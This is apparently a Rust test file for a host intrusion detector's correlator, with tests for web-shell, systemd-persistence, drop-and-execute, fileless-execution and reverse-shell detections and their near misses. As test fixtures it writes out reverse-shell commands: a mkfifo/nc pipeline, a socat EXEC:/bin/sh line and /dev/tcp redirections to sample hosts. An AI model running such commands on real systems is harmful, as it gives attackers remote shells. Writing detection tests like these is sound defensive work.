//! Each scenario on a positive and its near misses, the windows' bounds,
//! and the evidence the alerts carry.

use super::*;
use crate::model::event::FileOp;
use crate::testkit::{chain, connect, exec, file, file_with, process, stdio};

// Scripts: an interpreter's operand, a redirect, a pipe, no #!.
mod scripts;

impl Correlator {
    /// `observe` outside any package operation the test did not start.
    fn observe_in(&mut self, ev: &Event, out: &mut Vec<Finding>) {
        let mut ctx = Context::default();
        ctx.observe(ev);
        self.observe(ev, &mut ctx, out);
    }
}

/// A correlator with the default detections.
pub(super) fn correlator() -> Correlator {
    Correlator::new(&config::Detections::default()).unwrap()
}

/// What `c` finds in `events`, in order.
pub(super) fn findings_of(c: &mut Correlator, events: &[Event]) -> Vec<Finding> {
    let mut out = Vec::new();
    for ev in events {
        c.observe_in(ev, &mut out);
    }
    out
}

/// The rule ids of what `c` finds in `events`, in order.
fn ids(c: &mut Correlator, events: &[Event]) -> Vec<String> {
    findings_of(c, events)
        .into_iter()
        .map(|f| f.rule.id.clone())
        .collect()
}

/// Everything a fresh correlator finds in `events`, in order.
pub(super) fn findings(events: &[Event]) -> Vec<Finding> {
    findings_of(&mut correlator(), events)
}

const MIN: u64 = 60_000;

#[test]
fn window_expires_by_event_time_and_counts_evictions() {
    let mut w: Window<String, u32> = Window::new(2, 10);
    w.insert(0, "a".into(), 1);
    w.insert(5, "b".into(), 2);
    assert_eq!(w.get(10, &"a".into()), Some(&1));
    assert_eq!(w.get(11, &"a".into()), None, "a is older than the window");
    // Full: the oldest goes, and that is counted.
    w.insert(6, "c".into(), 3);
    assert_eq!((w.len(), w.evicted()), (2, 1));
    assert_eq!(w.get(6, &"a".into()), None);
    // Setting a key again moves it to the back; its stale slot is skipped.
    w.insert(7, "b".into(), 4);
    w.insert(8, "d".into(), 5);
    assert_eq!(w.get(8, &"b".into()), Some(&4));
    assert_eq!(w.get(8, &"c".into()), None);
    assert_eq!(w.evicted(), 2);
    // Newest first, each key once (b's stale slot skipped), in the window.
    let newest =
        |now| -> Vec<(String, u32)> { w.newest(now).map(|(k, v)| (k.clone(), *v)).collect() };
    assert_eq!(newest(8), [("d".into(), 5), ("b".into(), 4)]);
    assert_eq!(newest(18), [("d".into(), 5)]);
    // Expiry is not eviction.
    w.expire(100);
    assert_eq!((w.len(), w.evicted()), (0, 2));
    // Many re-sets of one key do not grow the order queue without bound.
    for t in 0..1000 {
        w.insert(200 + t, "k".into(), 0);
    }
    assert!(w.order.len() <= 4, "{}", w.order.len());
}

#[test]
fn webshell_alerts_once_under_a_web_server_with_the_server_as_evidence() {
    let mut c = correlator();
    let php = chain(&["/sbin/init", "/usr/sbin/nginx", "/usr/sbin/php-fpm8.2"]).unwrap();
    let sh = process(500, "/bin/sh", &["sh", "-c", "id"], Some(php.clone()));
    let id = process(501, "/usr/bin/id", &["id"], Some(sh.clone()));
    let mut out = Vec::new();
    c.observe_in(&exec(10, &sh), &mut out);
    assert_eq!(out.len(), 1);
    let f = &out[0];
    assert_eq!(f.rule.id, "rg-webshell-exec");
    assert_eq!(
        f.message,
        "sh run under web server php-fpm8.2 (pid 102): sh -c id"
    );
    assert_eq!(f.evidence.len(), 2);
    assert_eq!(
        (f.evidence[0].pid, f.evidence[0].executable.as_deref()),
        (102, Some("/usr/sbin/php-fpm8.2"))
    );
    assert_eq!(f.evidence[1].command_line.as_deref(), Some("sh -c id"));
    // The id below the sh: already covered by the sh's alert.
    out.clear();
    c.observe_in(&exec(11, &id), &mut out);
    assert!(out.is_empty());
    // A recon tool right under the server alerts on its own.
    let whoami = process(502, "/usr/bin/whoami", &["whoami"], Some(php));
    assert_eq!(ids(&mut c, &[exec(12, &whoami)]), ["rg-webshell-exec"]);
}

#[test]
fn webshell_near_misses() {
    let mut c = correlator();
    let sshd = chain(&["/sbin/init", "/usr/sbin/sshd"]).unwrap();
    let nginx = chain(&["/sbin/init", "/usr/sbin/nginx"]).unwrap();
    let events = [
        // A shell of an ssh login.
        exec(1, &process(600, "/bin/bash", &["bash"], Some(sshd))),
        // A web server's non-shell helper.
        exec(
            2,
            &process(601, "/usr/bin/convert", &["convert"], Some(nginx.clone())),
        ),
        // The web server itself re-exec'ing.
        exec(3, &nginx),
        // Not an exec: a shell's file write under nginx.
        file(
            4,
            &process(602, "/bin/sh", &["sh"], Some(nginx)),
            FileOp::Open,
            "/tmp/x",
        ),
    ];
    assert!(ids(&mut c, &events).is_empty());
}

#[test]
fn systemd_unit_written_then_enabled() {
    let mut c = correlator();
    let root = chain(&["/sbin/init", "/bin/bash"]).unwrap();
    let cp = process(700, "/usr/bin/cp", &["cp"], Some(root.clone()));
    let write = file(0, &cp, FileOp::Open, "/etc/systemd/system/evil.service");
    // `systemctl enable evil` names evil.service.
    let ctl = process(
        701,
        "/usr/bin/systemctl",
        &["systemctl", "enable", "--now", "evil"],
        Some(root.clone()),
    );
    let mut out = Vec::new();
    c.observe_in(&write, &mut out);
    c.observe_in(&exec(MIN, &ctl), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].rule.id, "rg-persist-systemd-enable");
    assert_eq!(out[0].rule.severity, Severity::Critical);
    assert_eq!(
        out[0].message,
        "Systemd unit evil.service written by /usr/bin/cp then enabled or started \
         (systemctl enable --now evil)"
    );
    assert_eq!(
        out[0]
            .evidence
            .iter()
            .map(|e| (e.action, e.pid))
            .collect::<Vec<_>>(),
        [("open", 700), ("exec", 701)]
    );
    // Once per write: enabling again does not alert again.
    assert!(ids(&mut c, &[exec(MIN + 1, &ctl)]).is_empty());

    // A link into a .wants directory (what systemd makes for `enable`).
    let timer = file(
        2 * MIN,
        &cp,
        FileOp::Open,
        "/home/ann/.config/systemd/user/x.timer",
    );
    let link = file_with(
        2 * MIN + 5,
        &root,
        FileOp::Symlink,
        "/home/ann/.config/systemd/user/timers.target.wants/x.timer",
        |b| b.target_path = Some("/home/ann/.config/systemd/user/x.timer".into()),
    );
    assert_eq!(ids(&mut c, &[timer, link]), ["rg-persist-systemd-enable"]);
}

#[test]
fn systemd_near_misses() {
    let mut c = correlator();
    let root = chain(&["/sbin/init", "/bin/bash"]).unwrap();
    let cp = process(710, "/usr/bin/cp", &["cp"], Some(root.clone()));
    let ctl = |ms, args: &[&str]| {
        exec(
            ms,
            &process(711, "/usr/bin/systemctl", args, Some(root.clone())),
        )
    };
    let events = [
        // Enabling a unit nobody just wrote.
        ctl(0, &["systemctl", "enable", "ssh"]),
        // A unit written, then only looked at.
        file(1, &cp, FileOp::Open, "/etc/systemd/system/a.service"),
        ctl(2, &["systemctl", "status", "a.service"]),
        // A unit file outside the unit directories.
        file(3, &cp, FileOp::Open, "/srv/b.service"),
        ctl(4, &["systemctl", "start", "b.service"]),
        // Written and enabled, but after the window (10 minutes).
        file(5, &cp, FileOp::Open, "/etc/systemd/system/c.service"),
        ctl(5 + 11 * MIN, &["systemctl", "enable", "c.service"]),
        // A failed write.
        file_with(
            20 * MIN,
            &cp,
            FileOp::Open,
            "/etc/systemd/system/d.service",
            |b| b.result = -13,
        ),
        ctl(20 * MIN + 1, &["systemctl", "enable", "d"]),
    ];
    assert!(ids(&mut c, &events).is_empty());
}

#[test]
fn dropped_file_executed_scored_by_source_and_place() {
    let mut c = correlator();
    let shell = chain(&["/sbin/init", "/bin/bash"]).unwrap();
    let curl = process(
        800,
        "/usr/bin/curl",
        &["curl", "-o", "/tmp/x"],
        Some(shell.clone()),
    );
    let python = process(801, "/usr/bin/python3", &["python3"], Some(shell.clone()));
    let cp = process(802, "/usr/bin/cp", &["cp"], Some(shell.clone()));
    let run = |ms, path: &str, pid| exec(ms, &process(pid, path, &[path], Some(shell.clone())));
    let chmod_x = |ms, p: &Arc<Process>, path: &str| {
        file_with(ms, p, FileOp::Chmod, path, |b| b.mode = Some(0o755))
    };
    let cases: Vec<(Vec<Event>, Severity, usize)> = vec![
        // curl into /tmp, chmod +x, run: download tool and temp dir.
        (
            vec![
                file(0, &curl, FileOp::Open, "/tmp/x"),
                chmod_x(1, &shell, "/tmp/x"),
                run(2, "/tmp/x", 900),
            ],
            Severity::Critical,
            3,
        ),
        // A program that connected out, writing outside the temp dirs.
        (
            vec![
                connect(10, &python, "203.0.113.9:443"),
                file(11, &python, FileOp::Open, "/home/ann/.local/bin/agent"),
                run(12, "/home/ann/.local/bin/agent", 901),
            ],
            Severity::High,
            3,
        ),
        // A local copy into /dev/shm.
        (
            vec![
                file(20, &cp, FileOp::Open, "/dev/shm/tool"),
                run(21, "/dev/shm/tool", 902),
            ],
            Severity::High,
            2,
        ),
        // A local build output run elsewhere: medium.
        (
            vec![
                file(30, &cp, FileOp::Open, "/opt/app/bin/app"),
                run(31, "/opt/app/bin/app", 903),
            ],
            Severity::Medium,
            2,
        ),
    ];
    for (events, severity, evidence) in cases {
        let out = findings_of(&mut c, &events);
        assert_eq!(out.len(), 1, "{events:#?}");
        assert_eq!(out[0].rule.id, "rg-drop-exec");
        assert_eq!(out[0].rule.severity, severity, "{}", out[0].message);
        assert_eq!(out[0].evidence.len(), evidence, "{:#?}", out[0].evidence);
    }
    // The first case's message and evidence, in order.
    let out = findings(&[
        file(0, &curl, FileOp::Open, "/tmp/x"),
        chmod_x(1, &shell, "/tmp/x"),
        run(2, "/tmp/x", 900),
    ]);
    assert_eq!(
        out[0].message,
        "/tmp/x written by /usr/bin/curl, made executable by /bin/bash then executed by pid 900 (the writer downloads, in a temporary directory)"
    );
    assert_eq!(
        out[0]
            .evidence
            .iter()
            .map(|e| (e.action, e.pid))
            .collect::<Vec<_>>(),
        [("open", 800), ("chmod", 101), ("exec", 900)]
    );
}

#[test]
fn drop_exec_near_misses() {
    let mut c = correlator();
    let shell = chain(&["/sbin/init", "/bin/bash"]).unwrap();
    let cp = process(810, "/usr/bin/cp", &["cp"], Some(shell.clone()));
    let run = |ms, path: &str| exec(ms, &process(910, path, &[path], Some(shell.clone())));
    let events = [
        // Run without a recent write.
        run(0, "/usr/bin/ls"),
        // Written, then read by an exec of something else.
        file(1, &cp, FileOp::Open, "/tmp/data.bin"),
        run(2, "/usr/bin/file"),
        // Written and run after the window.
        file(3, &cp, FileOp::Open, "/tmp/late"),
        run(3 + 11 * MIN, "/tmp/late"),
        // Unlinked, not written.
        file(20 * MIN, &cp, FileOp::Unlink, "/tmp/gone"),
        run(20 * MIN + 1, "/tmp/gone"),
        // A chmod that takes execute away.
        file_with(21 * MIN, &cp, FileOp::Chmod, "/tmp/nox", |b| {
            b.mode = Some(0o644)
        }),
        run(21 * MIN + 1, "/tmp/nox"),
    ];
    assert!(ids(&mut c, &events).is_empty());
}

/// A file written in one mount namespace and a file of the same path run
/// in another (a runtime unpacking an image, then the container running
/// its own copy) are different files; in the same namespace, a drop.
#[test]
fn drop_exec_stays_in_its_mount_namespace() {
    let mut c = correlator();
    let shell = chain(&["/sbin/init", "/bin/bash"]).unwrap();
    let unpacker = process(810, "/usr/bin/podman", &["podman"], Some(shell.clone()));
    let in_ns = |p: &Arc<crate::model::proctable::Process>, mnt| {
        let mut q = (**p).clone();
        q.ns = Some(crate::model::event::Namespaces {
            mnt,
            ..crate::testkit::NS
        });
        Arc::new(q)
    };
    let container = in_ns(&process(910, "/bin/busybox", &["sleep"], None), 4026532999);
    let events = [
        file(1, &unpacker, FileOp::Open, "/bin/busybox"),
        exec(2, &container),
    ];
    assert!(ids(&mut c, &events).is_empty());
    let host_run = in_ns(
        &process(911, "/bin/busybox", &["sh"], None),
        crate::testkit::NS.mnt,
    );
    let events = [
        file(3, &unpacker, FileOp::Open, "/bin/busybox"),
        exec(4, &host_run),
    ];
    assert_eq!(ids(&mut c, &events), ["rg-drop-exec"]);
}

#[test]
fn fileless_exec_and_its_allowlist() {
    let mut c = correlator();
    let python = chain(&["/sbin/init", "/usr/bin/python3"]).unwrap();
    let mut p = (*process(920, "/proc/self/fd/3", &["payload"], Some(python.clone()))).clone();
    let mut image = (*p.image).clone();
    image.exe = "memfd:payload".into();
    p.image = Arc::new(image);
    let ev = exec(0, &Arc::new(p.clone()));
    let mut out = Vec::new();
    c.observe_in(&ev, &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].rule.id, "rg-fileless-exec");
    assert_eq!(
        out[0].message,
        "Program run from memory (memfd:payload) as /proc/self/fd/3 by pid 920"
    );
    // runc's own clone is expected.
    let mut image = (*p.image).clone();
    image.exe = "memfd:runc_cloned:/proc/self/exe".into();
    p.image = Arc::new(image);
    assert!(ids(&mut c, &[exec(1, &Arc::new(p))]).is_empty());
}

#[test]
fn disabled_scenarios_keep_no_state() {
    let d = config::Detections {
        disabled: IDS.iter().map(|s| s.to_string()).collect(),
        ..Default::default()
    };
    let mut c = Correlator::new(&d).unwrap();
    assert_eq!(c.enabled().count(), 0);
    let cp = chain(&["/usr/bin/cp"]).unwrap();
    ids(
        &mut c,
        &[file(0, &cp, FileOp::Open, "/etc/systemd/system/x.service")],
    );
    assert_eq!(c.state_size(), 0);
    // Fileless alone: drops are not tracked.
    let d = config::Detections {
        disabled: vec!["rg-drop-exec".into()],
        ..Default::default()
    };
    let mut c = Correlator::new(&d).unwrap();
    assert_eq!(
        c.enabled().collect::<Vec<_>>(),
        [
            "rg-webshell-exec",
            "rg-persist-systemd-enable",
            "rg-fileless-exec",
            "rg-reverse-shell"
        ]
    );
    ids(&mut c, &[file(0, &cp, FileOp::Open, "/tmp/x")]);
    assert_eq!(c.state_size(), 0);
}

#[test]
fn state_is_bounded_and_evictions_counted() {
    let d = config::Detections {
        correlation_max_entries: 16,
        ..Default::default()
    };
    let mut c = Correlator::new(&d).unwrap();
    let cp = chain(&["/usr/bin/cp"]).unwrap();
    let events: Vec<Event> = (0..100)
        .map(|i| file(i, &cp, FileOp::Open, &format!("/tmp/f{i}")))
        .collect();
    ids(&mut c, &events);
    assert_eq!(c.state_size(), 16);
    assert_eq!(c.evictions(), 84);
    c.expire(crate::testkit::BOOT + 11 * MIN * 1_000_000);
    assert_eq!(c.state_size(), 0);
}

#[test]
fn reverse_shell_once_per_connection_with_the_socket_as_evidence() {
    let mut c = correlator();
    let bash = process(
        700,
        "/usr/bin/bash",
        &["bash", "-i"],
        chain(&["/usr/sbin/sshd"]),
    );
    let sub = process(
        701,
        "/usr/bin/bash",
        &["bash", "-c", "ls"],
        Some(bash.clone()),
    );
    // The dup that wires it, the exec after it, a subshell on the same
    // socket: one alert, at the dup.
    let out = findings_of(
        &mut c,
        &[
            stdio(0, &bash, "dup2", 0b111, 9001, "203.0.113.7:4444"),
            stdio(1, &bash, "execve", 0b111, 9001, "203.0.113.7:4444"),
            stdio(2, &sub, "execve", 0b101, 9001, "203.0.113.7:4444"),
        ],
    );
    assert_eq!(out.len(), 1, "{out:#?}");
    let f = &out[0];
    assert_eq!(f.rule.id, "rg-reverse-shell");
    assert_eq!(f.rule.severity, Severity::Critical);
    assert_eq!(
        f.message,
        "bash (pid 700) has fds 0, 1, 2 on a socket to 203.0.113.7:4444 (dup2 gave it): \
         an interactive shell over the network"
    );
    assert_eq!(
        f.evidence
            .iter()
            .map(|e| (e.action, e.pid))
            .collect::<Vec<_>>(),
        [("exec", 700), ("stdio_socket", 700)]
    );
    assert_eq!(
        f.evidence[1].destination,
        Some("203.0.113.7:4444".parse().unwrap())
    );
    // Another connection is another alert.
    let out = findings_of(
        &mut c,
        &[stdio(3, &sub, "execve", 0b011, 9002, "203.0.113.7:4444")],
    );
    assert_eq!(out.len(), 1);
    assert_eq!(c.state_size(), 2);
}

#[test]
fn reverse_shell_near_misses_and_command_lines() {
    let mut c = correlator();
    // A program that is not a shell or interpreter (an inetd-style service).
    let cat = process(710, "/usr/bin/cat", &["cat"], None);
    assert!(ids(&mut c, &[stdio(0, &cat, "execve", 0b011, 1, "127.0.0.1:9")]).is_empty());
    // A shell with a /dev/tcp redirection in its command line: medium.
    let sh = process(
        711,
        "/usr/bin/bash",
        &["bash", "-c", "cat </dev/tcp/10.0.0.9/80"],
        None,
    );
    let mut out = Vec::new();
    c.observe_in(&exec(1, &sh), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].rule.severity, Severity::Medium);
    assert_eq!(
        out[0].message,
        "bash (pid 711) started with a network redirection: cat </dev/tcp/10.0.0.9/80"
    );
    // Once per process.
    assert!(ids(&mut c, &[exec(2, &sh)]).is_empty());
    // An interpreter that mentions the path is not redirecting anything.
    let py = process(
        712,
        "/usr/bin/python3",
        &["python3", "-c", "print('/dev/tcp/x/1')"],
        None,
    );
    assert!(ids(&mut c, &[exec(3, &py)]).is_empty());
    // Configurable: python off the list is quiet on a socket.
    let d = config::Detections {
        reverse_shell_programs: vec!["sh".into(), "bash".into()],
        ..Default::default()
    };
    let mut c = Correlator::new(&d).unwrap();
    assert!(ids(&mut c, &[stdio(4, &py, "dup2", 0b011, 3, "127.0.0.1:9")]).is_empty());
}

/// `p` run by another path: a symlink or renamed link to its executable.
fn run_as(p: &Arc<Process>, executable: &str) -> Arc<Process> {
    let mut q = (**p).clone();
    let mut image = (*q.image).clone();
    image.executable = executable.into();
    image.name = executable.rsplit('/').next().unwrap_or("").into();
    q.image = Arc::new(image);
    Arc::new(q)
}

#[test]
fn reverse_shell_knows_an_interpreter_by_the_file_run_not_its_name() {
    let mut c = correlator();
    // `ln -s /usr/bin/python3 /run/lock/p; /run/lock/p -c '...dup2...'`
    let py = process(720, "/usr/bin/python3.12", &["p", "-c", "x"], None);
    let linked = run_as(&py, "/run/lock/p");
    let mut out = Vec::new();
    c.observe_in(
        &stdio(0, &linked, "dup2", 0b011, 9101, "203.0.113.7:4444"),
        &mut out,
    );
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].rule.severity, Severity::Critical);
    assert!(
        out[0]
            .message
            .starts_with("p (pid 720) has fds 0, 1 on a socket"),
        "{}",
        out[0].message
    );
    // A shell renamed `x` with a /dev/tcp redirection.
    let sh = process(
        721,
        "/usr/bin/bash",
        &["x", "-c", "exec 3<>/dev/tcp/h/1"],
        None,
    );
    assert_eq!(
        ids(&mut c, &[exec(1, &run_as(&sh, "/dev/shm/x"))]),
        ["rg-reverse-shell"]
    );
    // A program neither named like nor running an interpreter is not one.
    let cat = run_as(&process(722, "/usr/bin/cat", &["x"], None), "/tmp/x");
    assert!(
        ids(
            &mut c,
            &[stdio(2, &cat, "execve", 0b011, 9102, "127.0.0.1:9")]
        )
        .is_empty()
    );
}

#[test]
fn reverse_shell_over_a_relay() {
    let top = chain(&["/sbin/init", "/usr/bin/bash"]).unwrap();
    let child = |pid, exe: &str, args: &[&str]| process(pid, exe, args, Some(top.clone()));
    // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.9 4444 > /tmp/f,
    // the relay's exec seen first or last.
    let sh = child(840, "/usr/bin/dash", &["sh", "-i"]);
    let nc = child(841, "/usr/bin/nc.openbsd", &["nc", "10.0.0.9", "4444"]);
    for order in [[exec(0, &nc), exec(1, &sh)], [exec(0, &sh), exec(1, &nc)]] {
        let out = findings(&order);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert_eq!(out[0].rule.id, "rg-reverse-shell");
        assert_eq!(out[0].rule.severity, Severity::High);
        assert_eq!(
            out[0].message,
            "shell pid 840 is wired to a network relay: a shell reading its standard input and \
             the network relay /usr/bin/nc.openbsd started by pid 101 within 2 s of each other: \
             one pipeline"
        );
        // Oldest first.
        assert_eq!(
            out[0].evidence.iter().map(|e| e.pid).collect::<Vec<_>>(),
            order.iter().map(|e| e.pid).collect::<Vec<_>>()
        );
    }
    // socat TCP:10.0.0.9:4444 EXEC:/bin/sh: the relay starts the shell.
    let socat = child(
        842,
        "/usr/bin/socat",
        &["socat", "TCP:10.0.0.9:4444", "EXEC:/bin/sh,pty,stderr"],
    );
    let under = process(843, "/usr/bin/dash", &["/bin/sh"], Some(socat.clone()));
    let mut c = correlator();
    assert_eq!(
        ids(&mut c, &[exec(0, &socat), exec(1, &under)]),
        ["rg-reverse-shell"]
    );
    // Near misses: `cmd | nc host port`, a shell running a script or a
    // command in a pipeline with nc, a relay and a shell far apart, socat
    // without a program, a shell under another parent.
    let mut c = correlator();
    let plain_socat = child(844, "/usr/bin/socat", &["socat", "-", "TCP:h:1"]);
    let events = [
        exec(10, &child(845, "/usr/bin/tar", &["tar", "c", "."])),
        exec(10, &child(846, "/usr/bin/nc", &["nc", "h", "9"])),
        exec(11, &child(847, "/usr/bin/bash", &["bash", "backup.sh"])),
        exec(11, &child(848, "/usr/bin/dash", &["sh", "-c", "gzip"])),
        exec(20, &plain_socat),
        exec(
            21,
            &process(849, "/usr/bin/dash", &["sh"], Some(plain_socat.clone())),
        ),
        exec(9_000, &child(850, "/usr/bin/dash", &["sh", "-i"])),
    ];
    assert!(ids(&mut c, &events).is_empty());
}
